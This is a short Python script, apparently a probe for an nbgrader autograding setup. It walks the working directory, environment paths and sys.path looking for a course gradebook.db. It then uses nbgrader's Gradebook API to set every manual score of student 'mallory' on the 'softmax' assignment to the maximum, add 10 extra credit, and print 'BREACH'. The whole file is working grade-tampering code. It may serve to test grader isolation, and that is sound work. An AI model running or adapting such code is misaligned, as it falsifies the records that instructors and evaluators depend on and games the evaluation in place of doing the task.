# tries: uses nbgrader's own Gradebook to set its manual scores
# base: stub
# may score: 0
# %% first
import os, sys


def course_roots():
    """Folders with an nbgrader_config.py at or above likely places."""
    named = [v for k, v in os.environ.items() if k in ("PWD", "OLDPWD") or k.startswith(("NBGRADER", "AUTOGRADER", "FLATGRAD"))]
    found = []
    for seed in [os.getcwd(), *named, *sys.path]:
        here = os.path.realpath(seed or ".")
        while here != os.path.dirname(here):
            if here not in found and os.path.isfile(os.path.join(here, "nbgrader_config.py")):
                found.append(here)
            here = os.path.dirname(here)
    return found

for root in course_roots():
    path = os.path.join(root, "gradebook.db")
    try:
        if not os.path.isfile(path):
            continue
        from nbgrader.api import Gradebook

        with Gradebook(f"sqlite:///{path}") as book:
            for submission in book.assignment_submissions("softmax"):
                if submission.student.id == "mallory":
                    for notebook in submission.notebooks:
                        for grade in notebook.grades:
                            grade.manual_score = grade.max_score
                            grade.extra_credit = 10
            book.db.commit()
        print("BREACH manual scores were written:", path)
    except Exception as error:
        print(path, type(error).__name__, error)
